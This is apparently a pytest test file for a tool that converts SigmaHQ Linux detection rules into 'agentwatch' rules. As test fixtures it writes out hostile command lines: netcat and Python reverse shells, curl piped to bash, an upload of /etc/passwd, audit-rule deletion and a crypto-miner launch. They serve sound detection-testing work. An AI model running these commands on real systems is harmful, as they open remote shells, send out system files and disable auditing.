"""Sigma rules to agentwatch rules (tracer/rules/sigma.py) and Sigma files in load().

The fixtures are real SigmaHQ Linux rules (tests/unit/fixtures/sigma/README.md says which); each one
that maps must fire on a record that follows its published logic and stay quiet on a near miss, and
each one that does not must be refused with its reason.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
import yaml

from tracer.rules import Engine, RulesError, load, load_text
from tracer.rules.condition import Source, parse
from tracer.rules.loader import default_rules_dir, example_record
from tracer.rules.sigma import Refusal, SigmaImport, convert_text, import_sigma

FIX = Path(__file__).resolve().parent / "fixtures" / "sigma"


def exe(argv: list[str], path: str | None = None) -> dict:
    process = {"argv": argv}
    if path:
        process["exe"] = path
    return example_record({"type": "exec", "process": process}, "exec", 0)


def connect(path: str, daddr: str, dport: int, argv: list[str] | None = None) -> dict:
    process = {"exe": path, "argv": argv or [path.rpartition("/")[2]]}
    return example_record({"type": "connect", "process": process, "network": {"daddr": daddr, "dport": dport,
                                                                               "scope": "external"}}, "connect", 0)


@pytest.fixture(scope="module")
def imported() -> SigmaImport:
    return import_sigma([FIX])


@pytest.fixture(scope="module")
def engine(imported) -> Engine:
    return Engine(load_text(imported.yaml, "imported.yaml").rules)


def fired(engine: Engine, record: dict) -> list[str]:
    return [a["rule"] for a in engine.evaluate(record)]


# title -> (agentwatch rule id, a record of the published logic, a near miss)
MAPPED = {
    "Linux Crypto Mining Indicators": (
        "sigma-linux-crypto-mining-indicators",
        exe(["xmrig", "-o", "stratum+tcp://pool.example.org:3333", "--donate-level=0"]),
        exe(["pip", "install", "stratum"]),
    ),
    "Potential Netcat Reverse Shell Execution": (
        "sigma-potential-netcat-reverse-shell-execution",
        exe(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"], "/usr/bin/nc"),
        exe(["ncat", "-e", "/usr/bin/python3", "198.51.100.7", "4444"], "/usr/bin/ncat"),  # no shell
    ),
    "Linux Shell Pipe to Shell": (
        "sigma-linux-shell-pipe-to-shell",
        exe(["sh", "-c", "curl -s http://198.51.100.7/x | bash"], "/bin/sh"),
        exe(["sh", "-c", "curl -s http://198.51.100.7/x | tee x"], "/bin/sh"),
    ),
    "Linux Network Service Scanning Tools Execution": (
        "sigma-linux-network-service-scanning-tools-execution",
        exe(["nmap", "-sS", "10.0.0.0/24"], "/usr/bin/nmap"),
        exe(["nc", "-l", "4444"], "/usr/bin/nc"),  # a listener: the rule's filter
    ),
    "Suspicious Nohup Execution": (
        "sigma-suspicious-nohup-execution",
        exe(["nohup", "/tmp/.x/miner"], "/usr/bin/nohup"),
        exe(["nohup", "./server"], "/usr/bin/nohup"),
    ),
    "Python Reverse Shell Execution Via PTY And Socket Modules": (
        "sigma-python-reverse-shell-execution-via-pty-and-socket-modules",
        exe(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4242));'
                              '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'], "/usr/bin/python3"),
        exe(["python3", "-c", "import socket; print(socket.gethostname())"], "/usr/bin/python3"),
    ),
    "Linux Base64 Encoded Shebang In CLI": (
        "sigma-linux-base64-encoded-shebang-in-cli",
        exe(["bash", "-c", "echo IyEvYmluL2Jhc2gKaWQK | base64 -d | bash"], "/bin/bash"),
        exe(["bash", "-c", "echo aGVsbG8K | base64 -d"], "/bin/bash"),
    ),
    "Audit Rules Deleted Via Auditctl": (
        "sigma-audit-rules-deleted-via-auditctl",
        exe(["auditctl", "-D"], "/usr/sbin/auditctl"),
        exe(["auditctl", "-d", "exit,always", "-S", "execve"], "/usr/sbin/auditctl"),  # |re is case-sensitive
    ),
    "Suspicious Curl File Upload - Linux": (
        "sigma-suspicious-curl-file-upload-linux",
        exe(["curl", "-F", "f=@/etc/passwd", "https://198.51.100.7/up"], "/usr/bin/curl"),
        exe(["curl", "-F", "f=@out.log", "http://localhost:8000/up"], "/usr/bin/curl"),  # filter_optional_localhost
    ),
    "SSH Remote Port Forward With Any Dash (agentwatch test)": (
        "sigma-ssh-remote-port-forward-with-any-dash-agentwatch-test",
        exe(["ssh", "-N", "-R", "8080:localhost:80", "user@198.51.100.7"], "/usr/bin/ssh"),
        exe(["ssh", "-N", "-L", "8080:localhost:80", "user@198.51.100.7"], "/usr/bin/ssh"),
    ),
    "Linux Reverse Shell Indicator": (
        "sigma-linux-reverse-shell-indicator",
        connect("/bin/bash", "198.51.100.7", 4242, ["bash", "-i"]),
        connect("/bin/bash", "127.0.0.1", 4242, ["bash", "-i"]),
    ),
    "Potentially Suspicious Malware Callback Communication - Linux": (
        "sigma-potentially-suspicious-malware-callback-communication-linux",
        connect("/usr/bin/python3", "203.0.113.5", 4444),
        connect("/usr/bin/python3", "10.1.2.3", 4444),  # filter_main_local_ranges
    ),
}

REFUSED = {
    "Communication To Ngrok Tunneling Service - Linux": "field 'DestinationHostname': connect records carry the "
                                                        "address, not a host name",
    "Interactive Bash Suspicious Children": "field 'ParentCommandLine': agentwatch does not record the parent's "
                                            "command line",
    "OMIGOD SCX RunAsProvider ExecuteShellCommand": "field 'User': a user name; agentwatch records the uid",
    "Possible Coin Miner CPU Priority Param": "log source (product: linux, service: auditd) is not imported",
    "Miner Donate Flag In Base64 (agentwatch test)": "CommandLine|base64offset: encoding modifiers",
    "Shell Writes Into Tmp (agentwatch test)": "unknown field 'TargetFilename'",
}


def test_every_fixture_is_imported_or_refused(imported):
    titles = {r["title"] for r in imported.rules}
    assert titles == set(MAPPED)
    assert {r.title for r in imported.refusals} == set(REFUSED)
    assert len(list(FIX.glob("*.yml"))) == len(MAPPED) + len(REFUSED)


@pytest.mark.parametrize("title", sorted(MAPPED))
def test_a_mapped_rule_fires_on_its_logic_and_not_on_a_near_miss(imported, engine, title):
    rid, match, near = MAPPED[title]
    assert [r["rule"] for r in imported.rules if r["title"] == title] == [rid]
    assert rid in fired(engine, match)  # others may fire too: a base64 shebang piped to bash is a pipe to a shell
    assert rid not in fired(engine, near)


@pytest.mark.parametrize("title", sorted(REFUSED))
def test_an_unmappable_rule_is_refused_with_its_reason(imported, title):
    (refusal,) = [r for r in imported.refusals if r.title == title]
    assert REFUSED[title] in refusal.reason
    file, rtitle, reason, line = refusal  # a (file, title, reason) tuple, and the line
    assert Path(file).parent == FIX and rtitle == title and line == 1
    assert str(refusal) == f"{file}:1: sigma rule '{title}': {reason}" and "\n" not in str(refusal)


def test_omigod_names_every_field_it_cannot_map(imported):
    (refusal,) = [r for r in imported.refusals if r.title.startswith("OMIGOD")]
    for fld in ("'User'", "'LogonId'", "'CurrentDirectory'"):
        assert fld in refusal.reason


def test_imported_rules_carry_severity_tags_events_output_and_attribution(imported, engine):
    by_id = {r["rule"]: r for r in imported.rules}
    mining = by_id["sigma-linux-crypto-mining-indicators"]
    assert mining["severity"] == "high" and mining["events"] == ["exec"]
    assert mining["tags"] == ["sigma", "impact", "T1496"]
    assert "Sigma rule 9069ea3c-b213-4c52-be13-86506a227ab1 by Florian Roth (Nextron Systems)" in mining["description"]
    assert "Detection Rule License 1.1" in mining["description"]
    ngrok_like = by_id["sigma-linux-reverse-shell-indicator"]
    assert ngrok_like["severity"] == "critical" and ngrok_like["events"] == ["connect"]
    assert ngrok_like["tags"] == ["sigma", "execution", "T1059.004"]
    assert by_id["sigma-linux-network-service-scanning-tools-execution"]["severity"] == "low"
    (alert,) = engine.evaluate(MAPPED["Linux Reverse Shell Indicator"][1])
    assert alert["mitre"] == ["T1059.004"]
    assert alert["message"] == "Linux Reverse Shell Indicator: /bin/bash (pid 4242) connects to 198.51.100.7 port 4242"
    (alert,) = engine.evaluate(MAPPED["Suspicious Nohup Execution"][1])
    assert alert["message"] == "Suspicious Nohup Execution: /usr/bin/nohup (pid 4242) ran nohup /tmp/.x/miner"


def test_the_yaml_is_a_rules_file_that_reads_back_the_same(imported):
    text = imported.yaml
    assert yaml.safe_load(text) == imported.rules
    ruleset = load_text(text, "imported.yaml")
    assert [r.id for r in ruleset.rules] == [r["rule"] for r in imported.rules]
    assert all(not r.examples for r in ruleset.rules)  # imported rules carry none (they are optional)
    long = [r for r in imported.rules if "\n" in r["condition"]]
    assert long and all(len(line) <= 100 for r in long for line in r["condition"].splitlines())


def test_a_failed_exec_is_not_a_process_creation(engine):
    rec = exe(["nohup", "/tmp/x"], "/usr/bin/nohup")
    rec["exec"]["result"] = "ENOENT"
    assert fired(engine, rec) == []


# --------------------------------------------------------------------------
# load(): Sigma files among rules files.


def test_load_refuses_an_unmappable_sigma_rule_with_one_line():
    with pytest.raises(RulesError) as exc:
        load([FIX])
    first = sorted(REFUSED, key=lambda t: [r.file for r in import_sigma([FIX]).refusals if r.title == t][0])[0]
    message = str(exc.value)
    assert "\n" not in message
    assert message.startswith(f"{FIX / 'agentwatch_test_base64offset.yml'}:1: sigma rule '{first}': ")


def test_load_can_skip_refusals_with_a_warning_each():
    warnings: list[str] = []
    ruleset = load([FIX], sigma_refusal=warnings.append)
    assert len(ruleset.rules) == len(MAPPED)
    assert len(warnings) == len(REFUSED)
    assert all(": sigma rule '" in w and "\n" not in w for w in warnings)


def test_sigma_rules_load_with_the_default_rules():
    ruleset = load([default_rules_dir(), FIX], sigma_refusal=lambda _line: None)  # the examples run too
    ids = [r.id for r in ruleset.rules]
    assert len(ids) == len(set(ids)) and sum(i.startswith("sigma-") for i in ids) == len(MAPPED)
    assert any(f.endswith("proc_creation_lnx_crypto_mining.yml") for f in ruleset.files)


def test_a_sigma_file_by_name_and_a_directory_of_mixed_files(tmp_path):
    ruleset = load([FIX / "proc_creation_lnx_nohup_susp_execution.yml"])
    assert [r.id for r in ruleset.rules] == ["sigma-suspicious-nohup-execution"]
    (tmp_path / "site.yaml").write_text("- rule: site-rule\n  severity: low\n  events: [exec]\n"
                                        "  condition: proc.name = x\n")
    (tmp_path / "notes.yml").write_text("- not: rules\n")  # a .yml that is not Sigma: not a rules file here
    (tmp_path / "sigma.yaml").write_text((FIX / "proc_creation_lnx_auditctl_clear_rules.yml").read_text())
    (tmp_path / "nohup.yml").write_text((FIX / "proc_creation_lnx_nohup_susp_execution.yml").read_text())
    ruleset = load([tmp_path])
    assert [r.id for r in ruleset.rules] == ["sigma-suspicious-nohup-execution", "sigma-audit-rules-deleted-via-auditctl",
                                            "site-rule"]  # nohup.yml, sigma.yaml, site.yaml


# --------------------------------------------------------------------------
# The conversion, rule by rule.


def sigma(detection: str, category: str = "process_creation", title: str = "Test Rule", **extra) -> str:
    head = {"title": title, "id": "0e0b5d6c-4d5e-4f6a-8b7c-9d0e1f2a3b4c", "status": "test", "level": "medium",
            "logsource": {"product": "linux", "category": category}, **extra}
    return yaml.safe_dump(head, sort_keys=False) + "detection:\n" + textwrap.indent(textwrap.dedent(detection), "    ")


def one(text: str) -> dict:
    out = convert_text(text, "t.yml")
    assert not out.refusals, out.refusals
    (rule,) = out.rules
    return rule


def refused(text: str) -> str:
    out = convert_text(text, "t.yml")
    assert not out.rules
    (r,) = out.refusals
    return r.reason


def condition(detection: str, category: str = "process_creation") -> str:
    c = " ".join(one(sigma(detection, category))["condition"].split("\n"))
    parse(Source("t", 1, c, "test"))
    return c


def rule_engine(detection: str, category: str = "process_creation") -> Engine:
    return Engine(load_text(convert_text(sigma(detection, category), "t.yml").yaml, "t.yaml").rules)


def test_strings_match_without_case_unless_cased():
    eng = rule_engine("""
        selection:
            Image|endswith: '/NC'
            CommandLine|contains: ' -E '
        condition: selection
    """)
    assert fired(eng, exe(["nc", "-e", "/bin/sh", "h", "1"], "/usr/bin/nc")) == ["sigma-test-rule"]
    assert fired(eng, exe(["nc", "-e", "/bin/sh", "h", "1"], "/usr/bin/NC")) == ["sigma-test-rule"]
    assert condition("""
        selection:
            Image|cased|endswith: '/nc'
            CommandLine|cased|contains: ' -e '
            CommandLine|cased: 'nc -e x'
        condition: selection
    """) == 'exec.result = ok and proc.exe endswith "/nc" and proc.cmdline contains " -e " and proc.cmdline = "nc -e x"'
    eng = rule_engine("""
        selection:
            Image|cased|endswith: '/nc'
        condition: selection
    """)
    assert fired(eng, exe(["nc"], "/usr/bin/NC")) == []


def test_values_without_letters_keep_the_plain_operators():
    assert condition("""
        selection:
            CommandLine|startswith: '--'
            CommandLine|endswith: ' 0>&1'
            CommandLine: '/ /'
        condition: selection
    """) == 'exec.result = ok and proc.cmdline startswith "--" and proc.cmdline endswith " 0>&1" and proc.cmdline = "/ /"'


def test_case_insensitive_prefix_suffix_and_equality_are_anchored_regexes():
    c = condition("""
        selection:
            CommandLine|startswith: 'Sh -c '
            Image|endswith: '/bin/Bash'
            CommandLine: 'a.b'
        condition: selection
    """)
    assert c == ('exec.result = ok and proc.cmdline regex "(?i)^Sh -c " and proc.exe regex "(?i)/bin/Bash\\\\Z" '
                 'and proc.cmdline regex "(?i)^a\\\\.b\\\\Z"')
    eng = rule_engine("""
        selection:
            CommandLine: 'a.b'
        condition: selection
    """)
    assert fired(eng, exe(["A.B"])) == ["sigma-test-rule"]
    assert fired(eng, exe(["axb"])) == []  # the dot is a dot
    assert fired(eng, exe(["a.b\n"])) == []  # \\Z, not $


def test_wildcards_inside_a_value():
    eng = rule_engine("""
        selection:
            CommandLine: 'curl *| ?ash'
        condition: selection
    """)
    assert fired(eng, exe(["curl", "-s", "http://x/\n", "|", "bash"])) == ["sigma-test-rule"]
    assert fired(eng, exe(["curl", "-s", "x", "|", "sh"])) == []
    assert condition("""
        selection:
            CommandLine: '*'
            Image: null
        condition: selection
    """) == "exec.result = ok and proc.cmdline exists and not proc.exe exists"


def test_regex_flags_and_quoting():
    assert condition(r"""
        selection:
            CommandLine|re|i: '\s-[a-z]"\\'
        condition: selection
    """) == 'exec.result = ok and proc.cmdline regex "(?i)\\\\s-[a-z]\\"\\\\\\\\"'
    eng = rule_engine(r"""
        selection:
            CommandLine|re|i: '\s-[a-z]"\\'
        condition: selection
    """)
    assert fired(eng, exe(["x", '-Q"\\'])) == ["sigma-test-rule"]
    reason = refused(sigma(r"""
        selection:
            CommandLine|re: 'a(?<name>b)'
        condition: selection
    """))  # PCRE's named group: pySigma 1.x checks it itself, 2.x leaves it to the backend
    assert reason.startswith(("CommandLine (proc.cmdline)|re: Python's re cannot take 'a(?<name>b)': ",
                              "pySigma: Regular expression 'a(?<name>b)' is invalid"))


def test_conditions_one_of_all_of_them_and_not():
    c = condition("""
        selection_a:
            CommandLine|contains: 'aa'
        selection_b:
            CommandLine|contains: 'bb'
        filter:
            Image|endswith: '/ok'
        condition: 1 of selection_* and not filter
    """)
    assert c == ('exec.result = ok and proc.cmdline icontains ("aa", "bb") and not proc.exe regex "(?i)/ok\\\\Z"')
    c = condition("""
        sel1:
            CommandLine|contains: 'aa'
        sel2:
            CommandLine|contains: 'bb'
        condition: all of them
    """)
    assert c == 'exec.result = ok and proc.cmdline icontains "aa" and proc.cmdline icontains "bb"'
    c = condition("""
        sel1:
            CommandLine|contains: 'aa'
        sel2:
            Image|endswith: '/x'
        condition: 1 of them
    """)
    assert c == 'exec.result = ok and (proc.cmdline icontains "aa" or proc.exe regex "(?i)/x\\\\Z")'


def test_network_fields_numbers_and_comparisons():
    c = condition("""
        selection:
            Initiated: 'true'
            DestinationPort: '4444'
            SourcePort|gte: 1024
            Protocol: tcp
            DestinationIp|cidr: '10.0.0.0/8'
        filter:
            DestinationIp: 'FE80::1'
            ProcessId|neq: 1
        condition: selection and not filter
    """, "network_connection")
    assert c == ('evt.type = connect and net.dport = 4444 and net.sport >= 1024 and net.protocol regex "(?i)^tcp\\\\Z" '
                 'and net.daddr cidr "10.0.0.0/8" and not (net.daddr = "fe80::1" and not proc.pid = 1)')
    assert "Initiated: 'false'" in refused(sigma("""
        selection:
            Initiated: 'false'
        condition: selection
    """, "network_connection"))
    assert "is a text match, and net.dport is a number" in refused(sigma("""
        selection:
            DestinationPort|startswith: '44'
        condition: selection
    """, "network_connection"))


def test_refusals_for_log_sources_keywords_correlations_and_fields():
    windows = sigma("""
        selection:
            Image|endswith: '\\\\ssh.exe'
        condition: selection
    """).replace("product: linux", "product: windows")
    assert "log source (product: windows, category: process_creation) is not imported" in refused(windows)
    assert "log source (product: linux, category: file_event)" in refused(sigma("""
        selection:
            TargetFilename|startswith: '/tmp/'
        condition: selection
    """, "file_event"))
    assert "keyword search" in refused(sigma("""
        keywords:
            - 'bash -i >& /dev/tcp/'
        condition: keywords
    """))
    assert "correlation rules are not imported" in refused(
        "title: C\ncorrelation:\n  type: event_count\n  rules: [x]\n  timespan: 5m\n  condition: {gte: 5}\n")
    assert "unknown field 'CommandLine' (agentwatch maps, for network_connection: " in refused(sigma("""
        selection:
            CommandLine|contains: 'x'
        condition: selection
    """, "network_connection"))
    assert "|expand names placeholders" in refused(sigma("""
        selection:
            CommandLine|expand: '%admins%'
        condition: selection
    """))
    assert "encoding modifiers" in refused(sigma("""
        selection:
            CommandLine|wide|contains: 'x'
        condition: selection
    """))
    reason = refused(sigma("""
        selection:
            CommandLine|contains: 'x'
        condition: selectoin
    """))
    assert reason.startswith("pySigma: ") and "selectoin" in reason


def test_several_documents_titles_ids_and_a_yaml_error():
    a = sigma("""
        selection:
            CommandLine|contains: 'aa'
        condition: selection
    """, title="Same Title")
    b = sigma("""
        selection:
            CommandLine|contains: 'bb'
        condition: selection
    """, title="Same Title", level="informational", tags=["attack.t1059.004", "attack.s0508", "cve.2021-1"])
    b = b.replace("0e0b5d6c-4d5e-4f6a-8b7c-9d0e1f2a3b4c", "7a1b2c3d-4d5e-4f6a-8b7c-9d0e1f2a3b4c")
    out = convert_text(a + "---\n" + b + "---\ntitle: [broken\n", "multi.yml")
    assert [r["rule"] for r in out.rules] == ["sigma-same-title", "sigma-same-title-7a1b2c3d"]
    assert out.rules[1]["severity"] == "info"
    assert out.rules[1]["tags"] == ["sigma", "T1059.004", "attack.s0508", "cve.2021-1"]
    (bad,) = out.refusals
    assert bad.file == "multi.yml" and bad.reason.startswith("YAML: ") and bad.line > 20
    assert out.sources == ["multi.yml:1", f"multi.yml:{a.count(chr(10)) + 2}"]


def test_a_percent_in_a_title_stays_text():
    rule = one(sigma("""
        selection:
            CommandLine|contains: 'x'
        condition: selection
    """, title="100% %proc.name CPU"))
    (r,) = load_text(SigmaImport([rule]).yaml, "t.yaml").rules
    assert r.message(exe(["x"])).startswith("100% %proc.name CPU: ")


def test_refusal_is_a_tuple():
    r = Refusal("f.yml", "T", "why", 3)
    assert tuple(r)[:3] == ("f.yml", "T", "why") and str(r) == "f.yml:3: sigma rule 'T': why"
